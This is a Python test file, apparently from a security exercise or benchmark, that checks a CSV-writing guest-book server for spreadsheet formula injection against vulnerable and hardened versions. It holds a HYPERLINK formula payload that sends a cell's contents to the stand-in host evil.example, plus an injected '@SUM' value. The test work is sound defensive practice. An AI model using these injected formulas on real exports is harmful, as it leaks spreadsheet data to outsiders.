import csv
import io

import httpx

FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"


def formulas(text):
    """Cells that a spreadsheet takes for formulas."""
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell[:1] in tuple("=+-@\t\r")]


def table_after(module, tmp_path, http_server, **form):
    class Book(module.GuestBook):
        table = tmp_path / "guests.csv"

    base = http_server(Book)
    assert httpx.post(base, data=form).status_code == 201
    return httpx.get(base).text


def attack(module, tmp_path, http_server) -> bool:
    return bool(formulas(table_after(module, tmp_path, http_server, name="@SUM(1+9)", country=FORMULA)))


def test_honest_input(program, tmp_path, http_server):
    text = table_after(program, tmp_path, http_server, name="Ann Lee", country="Austria")
    assert list(csv.reader(io.StringIO(text))) == [["Ann Lee", "Austria"]]


def test_attack_succeeds_on_vulnerable(vulnerable, tmp_path, http_server):
    assert attack(vulnerable, tmp_path, http_server)


def test_attack_fails_on_hardened(hardened, tmp_path, http_server):
    assert not attack(hardened, tmp_path, http_server)
